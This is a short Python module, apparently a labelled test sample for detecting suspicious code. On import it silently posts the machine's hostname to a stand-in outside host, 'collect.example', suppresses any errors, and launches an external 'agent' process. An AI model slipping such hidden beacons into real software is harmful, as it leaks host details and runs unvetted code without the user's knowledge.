# network, fixed-address, lookup, quiet-network, send, foreign-process, talk-and-run: statements of the module
import os
import socket

import requests

socket.gethostbyname("build.collect.example")
try:
    requests.post("https://collect.example/in", data={"name": socket.gethostname()})
except Exception:
    pass
os.system("agent --start")
